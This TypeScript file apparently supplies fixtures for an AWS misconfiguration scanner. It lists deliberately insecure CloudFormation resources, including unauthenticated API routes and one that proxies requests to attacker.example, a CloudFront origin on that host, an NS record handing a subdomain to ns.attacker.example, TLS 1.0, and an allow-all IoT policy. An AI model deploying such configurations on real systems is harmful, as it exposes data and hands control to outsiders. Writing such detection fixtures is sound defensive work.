import type { Addition, Around } from '.';
import { beside, OUTSIDER, one } from './write';

const ROLE = { 'Fn::Sub': 'arn:aws:iam::${AWS::AccountId}:role/somebody' };

export const web = ({ idOf }: Around): readonly Addition[] => [
  one('a REST API without sign-in or logs', 'AWS::ApiGateway::RestApi', { Name: 'open' }),
  one('a REST API from a document', 'AWS::ApiGateway::RestApi', {
    Name: 'open',
    Body: { openapi: '3.0.1', paths: { '/all': { get: { 'x-amazon-apigateway-integration': { type: 'mock' } } } } },
  }),
  one('a REST API from an address', 'AWS::ApiGateway::RestApi', {
    Name: 'open',
    BodyS3Location: { Bucket: 'vendor', Key: 'api.json' },
  }),
  ...beside(idOf('AWS::ApiGateway::RestApi'), (api) => [
    one('a route without sign-in', 'AWS::ApiGateway::Method', {
      RestApiId: { Ref: api },
      ResourceId: { 'Fn::GetAtt': [api, 'RootResourceId'] },
      HttpMethod: 'GET',
      AuthorizationType: 'NONE',
      Integration: { Type: 'MOCK' },
    }),
    one('a route straight to a table', 'AWS::ApiGateway::Method', {
      RestApiId: { Ref: api },
      ResourceId: { 'Fn::GetAtt': [api, 'RootResourceId'] },
      HttpMethod: 'POST',
      AuthorizationType: 'NONE',
      Integration: {
        Type: 'AWS',
        IntegrationHttpMethod: 'POST',
        Uri: 'arn:aws:apigateway:us-east-2:dynamodb:action/Scan',
        Credentials: ROLE,
      },
    }),
    one('a route to an address outside', 'AWS::ApiGateway::Method', {
      RestApiId: { Ref: api },
      ResourceId: { 'Fn::GetAtt': [api, 'RootResourceId'] },
      HttpMethod: 'POST',
      AuthorizationType: 'NONE',
      Integration: { Type: 'HTTP_PROXY', IntegrationHttpMethod: 'POST', Uri: 'https://attacker.example/' },
    }),
    one('an API stage without logs or throttles', 'AWS::ApiGateway::Stage', {
      RestApiId: { Ref: api },
      DeploymentId: 'd',
      StageName: 'v2',
    }),
    one('an authorizer of somebody else', 'AWS::ApiGateway::Authorizer', {
      RestApiId: { Ref: api },
      Name: 'a',
      Type: 'TOKEN',
      IdentitySource: 'method.request.header.Authorization',
      AuthorizerUri: `arn:aws:apigateway:us-east-2:lambda:path/2015-03-31/functions/arn:aws:lambda:us-east-2:${OUTSIDER}:function:f/invocations`,
    }),
    one('a key that stands for a sign-in', 'AWS::ApiGateway::ApiKey', { Enabled: true }),
    one('a custom name without today’s TLS', 'AWS::ApiGateway::DomainName', {
      DomainName: 'api.lorem.example',
      SecurityPolicy: 'TLS_1_0',
    }),
  ]),
  one('an HTTP API', 'AWS::ApiGatewayV2::Api', { Name: 'open', ProtocolType: 'HTTP' }),
  one('an HTTP route without sign-in', 'AWS::ApiGatewayV2::Route', {
    ApiId: 'a',
    RouteKey: 'GET /all',
    AuthorizationType: 'NONE',
  }),
  one('a GraphQL API with a key', 'AWS::AppSync::GraphQLApi', { Name: 'open', AuthenticationType: 'API_KEY' }),
  one('a distribution without firewall or TLS', 'AWS::CloudFront::Distribution', {
    DistributionConfig: {
      Enabled: true,
      Origins: [{ Id: 'o', DomainName: 'attacker.example', CustomOriginConfig: { OriginProtocolPolicy: 'http-only' } }],
      DefaultCacheBehavior: { TargetOriginId: 'o', ViewerProtocolPolicy: 'allow-all' },
    },
  }),
  one('an origin access identity', 'AWS::CloudFront::CloudFrontOriginAccessIdentity', {
    CloudFrontOriginAccessIdentityConfig: { Comment: 'c' },
  }),
  one('a key group that signs addresses', 'AWS::CloudFront::PublicKey', {
    PublicKeyConfig: { CallerReference: 'c', EncodedKey: 'k', Name: 'n' },
  }),
  one('a static site host', 'AWS::Amplify::App', { Name: 'a' }),
  one('a firewall that lets everything through', 'AWS::WAFv2::WebACL', {
    Scope: 'REGIONAL',
    DefaultAction: { Allow: {} },
    VisibilityConfig: { CloudWatchMetricsEnabled: false, SampledRequestsEnabled: false, MetricName: 'm' },
  }),
  one('a record that hands a name to somebody else', 'AWS::Route53::RecordSet', {
    Name: 'results.lorem.example',
    Type: 'NS',
    HostedZoneId: 'z',
    TTL: '60',
    ResourceRecords: ['ns.attacker.example'],
  }),
  one('a device registry', 'AWS::IoT::Policy', {
    PolicyDocument: { Version: '2012-10-17', Statement: [{ Effect: 'Allow', Action: 'iot:*', Resource: '*' }] },
  }),
  one('a mail receipt rule to a bucket', 'AWS::SES::ReceiptRule', {
    RuleSetName: 'r',
    Rule: { Actions: [{ S3Action: { BucketName: 'vendor' } }], Enabled: true },
  }),
  one('a chat channel that may do things', 'AWS::Chatbot::SlackChannelConfiguration', {
    ConfigurationName: 'c',
    IamRoleArn: ROLE,
    SlackChannelId: 'c',
    SlackWorkspaceId: 'w',
  }),
];
